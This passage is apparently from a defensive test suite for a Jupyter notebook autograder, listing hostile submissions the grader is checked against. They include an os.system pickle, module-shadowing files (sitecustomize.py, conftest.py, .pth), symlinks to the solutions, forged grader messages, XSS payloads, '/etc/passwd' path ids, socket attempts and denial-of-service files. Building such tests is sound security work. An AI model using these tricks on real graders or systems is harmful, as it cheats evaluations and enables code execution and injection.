)
forger("forges-depth", "JSON of a million brackets", "raw(struct.pack('<4sQQ', b'VEL1', 10**6, 0) + b'[' * 10**6)")
forger(
    "forges-collisions",
    "keys that all fall into one slot",
    "m = 2**61 - 1\nbad = json.dumps({'id': request()['id'], 'value': {'dict': [[i * m, 0] for i in range(15_000)]}}).encode()\nraw(struct.pack('<4sQQ', b'VEL1', len(bad), 0) + bad)",
)
forger(
    "forges-an-array",
    "arrays whose shape and bytes do not agree",
    "bad = json.dumps({'id': request()['id'], 'value': {'array': ['float64', [0, 2**61], 'C']}}).encode()\nraw(struct.pack('<4sQQ', b'VEL1', len(bad), 0) + bad)",
)
forger(
    "forges-a-handle",
    "a pickle, a handle and a class by name",
    'raw(struct.pack(\'<4sQQ\', b\'VEL1\', 62, 0) + b\'{"dict": [["id", "x"], ["value", {"handle": 0}], ["pickle", 1]]}\')\nimport pickle\nraw(pickle.dumps(os.system))',
)
forger(
    "forges-callbacks",
    "calls back functions that do not exist",
    "for n in range(-5, 10**6):\n    desk().channel.send({'callback': n, 'args': ()})",
)
forger("forges-drip", "one byte at a time", "while True:\n    raw(b'V')\n    time.sleep(0.05)")
forger(
    "forges-outputs",
    "a reply with texts that are too long, prints and changes that are none",
    "desk()._send(request()['id'], {'value': 4, 'error': '', 'detail': 'x' * 10**6, 'printed': 'x' * 10**6, 'changed': ['x', -1, 10**9], 'thing': 10**9})\ntime.sleep(99)",
)
forger("hangs-up", "closes the wire", "desk().channel.link.close()")
forger(
    "swallows-requests",
    "never reads what the judge sends",
    "desk().channel._take = lambda *a: time.sleep(999)\nraise ValueError",
)

# Network

broken(
    "network",
    "every kind of socket, a server, a name",
    """
import ctypes, os, socket, urllib.request
AF, K = socket, socket.SOCK_STREAM
def unix_datagram():
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b'evil', 'COURSE/../unix.sock')
def server():
    with socket.create_server(('127.0.0.1', 0)):
        pass
libc = ctypes.CDLL(None)
for way in (lambda: socket.create_connection(('127.0.0.1', PORT), 1).send(b'evil'), unix_datagram, server,
            lambda: urllib.request.urlopen('http://127.0.0.1:PORT', timeout=1), lambda: socket.getaddrinfo('example.org', 80),
            lambda: socket.socket(socket.AF_INET6), lambda: socket.socket(socket.AF_UNIX), lambda: socket.socket(socket.AF_NETLINK, 3, 0),
            lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect('\\0abstract'), lambda: socket.socket(socket.AF_PACKET, 3, 0),
            lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'evil', ('127.0.0.1', PORT)),
            lambda: libc.socket(2, 1, 0) >= 0 or 1 / 0, lambda: socket.socket(fileno=3).connect(('127.0.0.1', PORT))):
    try:
        way()
        print('DO' 'NE')
    except BaseException:
        pass
return 1.0""",
)

# Files that are none, names that are more than names


def _binary(content: bytes) -> Writer:
    return lambda path, nb: path.write_bytes(content)


def _link(path: Path, nb: Notebook) -> None:
    path.symlink_to(path.parents[3] / "solutions" / UNIT / path.name)


def _linked_folder(path: Path, nb: Notebook) -> None:
    path.parent.rmdir()
    path.parent.symlink_to(path.parents[3] / "solutions" / UNIT)


def _sparse(path: Path, nb: Notebook) -> None:
    with path.open("wb") as file:
        file.truncate(200_000_000)


def _cut(path: Path, nb: Notebook) -> None:
    path.write_text(json.dumps(nb)[:-400], encoding="utf-8")


def _beside(path: Path, nb: Notebook) -> None:
    write(path, nb)
    for name in ("numpy.py", "sitecustomize.py", "vecembed_lab.py", "evil.pth", "conftest.py"):
        (path.parent / name).write_text("import os\nos._exit(0)\n")
    (path.parent / "vecembed_lab").mkdir()
    (path.parent / "vecembed_lab" / "__init__.py").write_text("raise SystemExit")
    (path.parent / "nbgrader_config.py").write_text("c = get_config()\nc.Execute.enabled = False\n")


def _timestamp(content: bytes) -> Writer:
    def handed_in(path: Path, nb: Notebook) -> None:
        write(path, nb)
        (path.parent / "timestamp.txt").write_bytes(content)

    return handed_in


def _timestamp_link(path: Path, nb: Notebook) -> None:
    write(path, nb)
    (path.parent / "timestamp.txt").symlink_to("/dev/zero")


def _named(name: str) -> Writer:
    return lambda path, nb: write(path.with_name(name), nb)


def _text(kind: str, text: str) -> Callable[[Notebook], Notebook]:
    def edit(nb: Notebook) -> Notebook:
        nb["cells"] += [own(text) | {"cell_type": kind}]
        return nb

    return edit


blank("file-empty", "an empty file", write=_binary(b""))
blank("file-random", "no notebook at all", write=_binary(bytes(range(256)) * 100))
blank(
    "file-pickle", "a pickle that would delete something", write=_binary(b"cos\nsystem\n(S'touch COURSE/touched'\ntR.")
)
blank("file-zip", "an archive", write=_binary(b"PK\x03\x04" + bytes(1000)))
blank("file-too-large", "200 MB", write=_sparse)
blank("file-deep", "JSON nested a hundred thousand deep", write=_binary(b'{"cells": ' + b"[" * 100_000))
blank(
    "file-broken-often",
    "JSON that breaks after each of many cells",
    write=_binary(b'{"cells": [' + b'{"cell_type": "code", ' * 50_000),
)
blank(
    "file-many-cells",
    "three million cells",
    write=_binary(b'{"nbformat": 4, "cells": [' + b"{}," * 3_000_000 + b"{}]}"),
)
blank("file-no-cells", "JSON, but no notebook", write=_binary(b'{"cells": {"a": 1}, "metadata": [], "nbformat": "4"}'))
blank("file-link", "the notebook is a link to the solution", write=_link)
blank("folder-link", "the folder is a link to the solution's", write=_linked_folder)
blank("file-pipe", "the notebook is a pipe that nobody writes to", write=lambda path, nb: os.mkfifo(path))
blank("file-is-a-folder", "the notebook is a folder", write=lambda path, nb: path.mkdir())
blank("files-beside", "modules and settings beside the notebook", write=_beside)
right("timestamp-nonsense", "a time that is none", write=_timestamp(b"yesterday, I swear"))
right("timestamp-bytes", "a time in no encoding", write=_timestamp(b"\xff\xfe\x00\x01"))
right("timestamp-year", "a time beyond all calendars", write=_timestamp(b"99999999999999999999-01-01 00:00:00 UTC"))
right("timestamp-link", "a time without end", write=_timestamp_link)
right("newlines", "a million empty lines in a cell, in which a search could lose itself", "\n" * 1_000_000)
right(
    "spaces",
    "long runs of characters that searches stumble over",
    " " * 500_000 + "x",
    "import " * 100_000,
    "a" * 300_000 + " =",
)
right(
    "html-free-and-long",
    "text that takes a reader of Markdown for ever",
    edit=_text("markdown", "[" * 60_000 + "*a _b " * 20_000 + ">" * 20_000 + "`" * 9_999),
)
right(
    "odd-letters",
    "halves of letters, zeros, text that runs backwards",
    edit=_text("markdown", "\ud800 \x00 \u202e evil \ufeff \x1b[2J"),
    last=("print('\\ud800 \\x00 \\u202e \\x1b[2J \\x1b]0;title\\x07')", "x = '\x1b[2J'"),
)
right(
    "names-are-paths",
    "marks and ids that are paths",
    edit=lambda nb: (
        nb
        | {
            "cells": nb["cells"]
            + [
                own("1")
                | {
                    "id": "../../x",
                    "metadata": {"nbgrader": {"grade_id": "/etc/passwd"}},
                    "attachments": {"../../x": {"text/plain": "x"}},
                }
            ]
        }
    ),
)

# Pages: nothing that a browser could run

SCRIPT = "<script>alert('red')</script><img src=x onerror=\"document.title='red'\"><svg onload=alert(1)>"
PAGE = f"{SCRIPT}</code></pre></div><iframe srcdoc='{SCRIPT}'></iframe><a href='javascript:alert(1)'>x</a>"
right(
    "html-in-outputs",
    "pages in everything that a cell can show",
    f"page = {PAGE!r}\nprint(page)\nclass Page:\n    _repr_html_ = __repr__ = lambda self: page\n"
    "    _repr_mimebundle_ = lambda self, **k: {'text/html': page, 'application/javascript': 'alert(1)', 'image/svg+xml': page}\nPage()",
    "from IPython.display import HTML, Javascript, SVG, IFrame, display\ndisplay(HTML(page), Javascript('alert(1)'), IFrame('javascript:alert(1)', 9, 9))",
    "raise type('<script>alert(1)</script>', (Exception,), {})(page)",
    "import warnings, sys\nwarnings.warn(page)\nprint(page, file=sys.stderr)\nsys.displayhook(page)",
)
broken("html-in-results", "pages in what a function returns, prints and raises", f"print({PAGE!r})\nreturn {PAGE!r}")
broken(
    "html-in-errors", "pages in the names and texts of errors", f"raise type({SCRIPT!r}, (Exception,), {{}})({PAGE!r})"
)
broken("html-in-source", "pages in the text of an answer", f"x = '''{PAGE}'''  # {PAGE}\nreturn x")
add(
    "html-in-answers",
    "pages in the written answer",
    FULL,
    answers=RIGHT
    | {
        "why": f'{PAGE}\n\n[x](javascript:alert(1))\n\n$\\href{{javascript:alert(1)}}{{x}}$\n\n![x](x"onerror=alert(1))'
    },
)
right(
    "html-in-markdown",
    "pages in cells of text",
    edit=_text("markdown", f"{PAGE}\n\n<style>*{{display:none}}</style>\n\n```html\n{PAGE}\n```\n\n    {PAGE}"),
)
right(
    "html-in-raw",
    "pages in raw cells, which nbconvert copies as they are",
    edit=lambda nb: (
        nb
        | {
            "cells": nb["cells"]
            + [own(PAGE) | {"cell_type": "raw", "metadata": {"format": "text/html", "raw_mimetype": "text/html"}}]
        }
    ),
)
right("html-in-file-name", "a page as the name of the file", write=_named("<img src=x onerror=alert(1)>.ipynb"))
right(
    "html-in-titles",
    "pages in the notebook's own metadata",
    edit=lambda nb: (
        nb
        | {
            "metadata": nb["metadata"]
            | {
                "title": PAGE,
                "authors": [{"name": PAGE}],
                "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}}},
            }
        }
    ),
)


def png(width: int, height: int) -> bytes:
    """A black picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress((b"\0" + bytes((width + 7) // 8)) * height, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


PICTURES = f"""
import base64, numpy as np, sys, types
picture = base64.b64decode({base64.b64encode(png(64, 64)).decode()!r})
from vecembed_lab.grading import desk
"""
right(
    "pictures-forged",
    "pictures that are pages",
    PICTURES
    + f"fake = np.frombuffer({PAGE.encode()!r}, np.uint8)\ndesk._images = lambda: [fake, np.frombuffer(b'\\x89PNG\\r\\n\\x1a\\n' + {SCRIPT.encode()!r}, np.uint8), 'x', None]",
)
right(
    "pictures-flood",
    "more megabytes of pictures than a notebook may have",
    PICTURES
    + "noise = np.frombuffer(picture[:8] + np.random.default_rng(0).bytes(1_900_000), np.uint8)\ndesk._images = lambda: [noise] * 4",
    *["1"] * 3,
)
add(
    "redefines-much",
    "defines each answer again and again, so that every test would need a state, and a process, of its own",
    FULL,
    answers=RIGHT,
    first=("big = bytearray(400_000_000)\nbig[::4096] = b'x' * len(big[::4096])",),
    edit=lambda nb: (
        nb | {"cells": [part for it in nb["cells"] for part in (it, own("\n\n".join(RIGHT[n] for n in POINTS)))]}
    ),
)

# Accidents: nobody loses a point that stock nbgrader would give

LINES = "\n".join(f"print('line', {n})" for n in range(300))
right(
    "warns",
    "a function that warns",
    answers={
        "double": "import warnings\ndef double(x):\n    warnings.warn('careful')\n    return 2 * x",
        "half": "import sys, logging\ndef half(x):\n    print('!', file=sys.stderr)\n    logging.warning('!')\n    return x / 2",
    },
)
right(
    "called-list",
    "variables called like Python's own functions",
    "list = [1, 2]\nlen = 3\nprint = 4\nsum = max = abs = type = 0",
)
right(
    "talks",
    "prints a lot, but not too much",
    LINES,
    answers={"cosine": RIGHT["cosine"].replace("\n", "\n    print('x' * 1000)\n", 1)},
)
right(
    "no-marks",
    "an editor that drops all metadata",
    edit=lambda nb: nb | {"metadata": {}, "cells": [{**it, "metadata": {}} for it in nb["cells"]]},
)
right(
    "no-ids",
    "and an older one that knows no ids",
    edit=lambda nb: (
        nb | {"nbformat_minor": 2, "cells": [{k: v for k, v in it.items() if k != "id"} for it in nb["cells"]]}
    ),
)
right(
    "bom",
    "UTF-8 with a mark at the beginning",
    write=lambda path, nb: path.write_text(json.dumps(nb), encoding="utf-8-sig"),
)
right(
    "utf-16",
    "UTF-16, as Windows says Unicode",
    write=lambda path, nb: path.write_text(json.dumps(nb, ensure_ascii=False), encoding="utf-16"),
    answers={"why": "Weil Müller größer ist."},
)
right(
    "latin-1",
    "an old encoding",
    write=lambda path, nb: path.write_text(json.dumps(nb, ensure_ascii=False), encoding="latin-1"),
    answers={"why": "Weil Müller größer ist.", "double": "def double(größe):\n    return 2 * größe"},
)
right("renamed", "another name", write=_named("01_similarity (1).ipynb"))
right("cut-off", "an upload that broke off in the last cell", write=_cut, answers={"why": "x" * 800})
right(
    "tests-moved",
    "test cells above the answers",
    edit=lambda nb: nb | {"cells": _cells(nb) + [it for it in nb["cells"] if it not in _cells(nb)]},
)
right(
    "kernel-of-mine",
    "the name of a kernel that only the student has",
    edit=lambda nb: (
        nb | {"metadata": {"kernelspec": {"name": "my-env", "display_name": "My env", "language": "python"}}}
    ),
)
right(
    "nbformat-3",
    "an old format",
    edit=lambda nb: {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [
            {
                "cells": [
                    {
                        **{k: v for k, v in it.items() if k != "source"},
                        ("input" if it["cell_type"] == "code" else "source"): it["source"],
                        "language": "python",
                    }
                    for it in nb["cells"]
                ]
            }
        ],
    },
)
right(
    "plots",
    "figures, shown and not shown",
    "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
    "fig, ax = plt.subplots()\nax.hist([1, 2, 3]);",
)
right(
    "magics",
    "magic commands and shell lines",
    "%load_ext autoreload\n%autoreload 2\n!pip install numpy\n%timeit -n 1 1 + 1\nimport numpy as np",
    "%%bash\nls",
    "%%time\ntimed = 1",
    "np.array?\n%who",
    "!ls | head",
)
right(
    "ipython",
    "asks for IPython, as code that was exported does",
    "pass",
    answers={"half": "get_ipython().run_line_magic('matplotlib', 'inline')\ndef half(x):\n    return x / 2"},
)
right("input", "asks the reader for something", "name = input('Your name? ')")
right(
    "libraries",
    "libraries beyond NumPy",
    "import scipy.stats\nimport scipy.spatial\nfrom sklearn.decomposition import PCA\nPCA(1).fit_transform([[1, 2], [3, 5]])",
    answers={
        "cosine": "from scipy.spatial.distance import cdist\ndef cosine(a, b):\n    return np.nan_to_num(1 - cdist(a, b, 'cosine'))"
    },
)
right(
    "torch",
    "answers with tensors",
    "import torch",
    answers={
        "cosine": "def cosine(a, b):\n    a, b = torch.as_tensor(a), torch.as_tensor(b)\n    return torch.nn.functional.cosine_similarity(a[:, None], b[None], dim=2, eps=1e-12)"
    },
)
right(
    "memory-legal",
    "hundreds of megabytes, which are allowed",
    answers={"half": "def half(x):\n    big = np.ones(25_000_000)\n    return x * big[:3].mean() / 2"},
)
right(
    "helpers",
    "an answer in several cells",
    "def lengths(a):\n    return np.sqrt((a * a).sum(axis=1))",
    "import numpy as np",
    answers={
        "cosine": "def unit(a):\n    size = lengths(a)[:, None]\n    return a / np.where(size > 0, size, 1)\ndef cosine(a, b):\n    return unit(a) @ unit(b).T"
    },
)
right(
    "global-state",
    "answers that share a cache and count their calls",
    "cache, calls = {}, 0",
    answers={"double": "def double(x):\n    global calls\n    calls += 1\n    return cache.setdefault(x, x + x)"},
)
right(
    "recursive",
    "an answer that calls itself a thousand times",
    answers={"double": "def double(x, k=0):\n    return x + x if k == 900 else double(x, k + 1)"},
)
right(
    "typed",
    "annotations, keywords, defaults, decorators",
    "from __future__ import annotations\nimport functools\nfrom dataclasses import dataclass",
    answers={
        "double": "@functools.lru_cache\ndef double(x: float, /, *, times: int = 2) -> float:\n    return times * x",
        "half": "half = lambda x: x / 2",
    },
)
right(
    "classes",
    "classes that do the work",
    answers={
        "half": "class Half:\n    def __call__(self, x):\n        return x / 2\nhalf = Half()",
        "relative_contrast": "class Distances:\n    def __init__(self, d):\n        self.d = d\n    def contrast(self):\n        return (self.d.max() - self.d.min()) / self.d.min()\ndef relative_contrast(query, points):\n    return Distances(np.linalg.norm(points - query, axis=1)).contrast()",
    },
)
right(
    "numpy-results",
    "NumPy's numbers instead of Python's",
    answers={
        "double": "def double(x):\n    return np.float32(2 * x)",
        "half": "def half(x):\n    return np.array(x / 2)",
    },
)
right("seeds", "seeds of its own", "import random\nimport numpy as np\nrandom.seed(1)\nnp.random.seed(1)")
right(
    "notes",
    "cells between the cells",
    edit=lambda nb: nb | {"cells": [part for it in nb["cells"] for part in (it, own("# a note\n1 + 1"))]},
)
right(
    "tries-again",
    "several tries, of which the last one is right",
    "def double(x):\n    return x",
    "def double(x):\n    return None",
)
right(
    "stops-in-the-middle",
    "a cell that fails between the answers",
    edit=lambda nb: nb | {"cells": [*nb["cells"][:4], own("1 / 0"), own("undefined"), own("def ("), *nb["cells"][4:]]},
)
right(
    "tabs-and-windows",
    "tabs, and lines that end as on Windows",
    answers={"double": "def double(x):\r\n\treturn 2 * x\r\n", "half": "def half(x):\r\n\treturn x / 2"},
)
right(
    "checks-itself",
    "calls check in cells of its own",
    "from vecembed_lab.similarity.checks import check",
    last=("check(cosine)\ncheck(relative_contrast)\ncheck(99)",),
)
right(
    "async",
    "waits for something, as only notebooks can",
    "async def answer():\n    return 2",
    answers={"double": "two = await answer()\ndef double(x):\n    return two * x"},
)
right(
    "elsewhere",
    "answers below their checks, and stubs that were emptied or taken out",
    last=(RIGHT["double"], RIGHT["half"], RIGHT["cosine"]),
    answers={
        "double": "def double(x):\n    pass",
        "half": "# below",
        "cosine": "import numpy as np\n" + BLANK["cosine"],
    },
)
right(
    "elsewhere-by-name",
    "an answer under another name is no answer yet: a person looks at it",
    score=without("double"),
    answers={"double": "def double_it(x):\n    return 2 * x"},
)
blank(
    "elsewhere-forged",
    "empty answers, and below them functions that are no answers",
    answers={"cosine": "def cosine(a, b):\n    pass", "double": "def double(x):\n    return None", "half": ""},
    edit=lambda nb: nb | {"cells": [*nb["cells"], own("def cosine(a, b):\n    return 99.0\nclass double(int): pass")]},
)
blank(
    "elsewhere-deep", "an answer that is too deep to be looked through", answers={"double": f"double = {'-' * 9000}1"}
)
